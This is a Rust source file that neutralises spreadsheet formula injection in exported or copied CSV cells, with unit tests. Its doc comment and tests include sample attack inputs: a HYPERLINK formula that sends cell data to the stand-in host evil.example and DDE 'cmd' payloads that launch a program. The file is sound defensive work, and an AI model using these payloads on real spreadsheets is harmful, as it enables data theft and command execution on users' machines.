//! Cells that a spreadsheet would run as a formula. A dataset is input from outside, so a name
//! like `=HYPERLINK("http://evil.example/?"&A1,"click")` or `@SUM(1+1)` must reach a
//! spreadsheet as text, whether it is pasted (`C` copies rows as tab-separated text) or opened
//! from an exported CSV file.
//!
//! The rule is OWASP's ("CSV Injection"): a text cell that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return gets a `'` in front, which every spreadsheet reads as "this is
//! text" and does not show. A cell that is a plain number (`-5`, `+3.25`, `-1.5e3`) is left
//! alone, so numbers stay numbers.

use std::borrow::Cow;

/// The characters that start a formula (or, for tab and CR, hide one behind them).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet will show it as text: prefixed with `'` when it would otherwise be
/// read as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if TRIGGERS.contains(&c) && !is_number(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A decimal number as a spreadsheet reads one: an optional sign, digits with an optional
/// fraction, an optional exponent. Nothing else (`-inf`, `-0x10`, `-1 + 2`) counts.
pub fn is_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for evil in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+",
            "-inf",
            "-1 + 2",
            "-5e",
        ] {
            assert_eq!(neutralise(evil), format!("'{evil}"), "{evil:?}");
        }
        for fine in [
            "-5", "+3.25", "-1.5e3", "-.5", "-5.", "1e-3", "Oxfam", "", "'quoted", "a=b", "5-3",
        ] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
    }
}
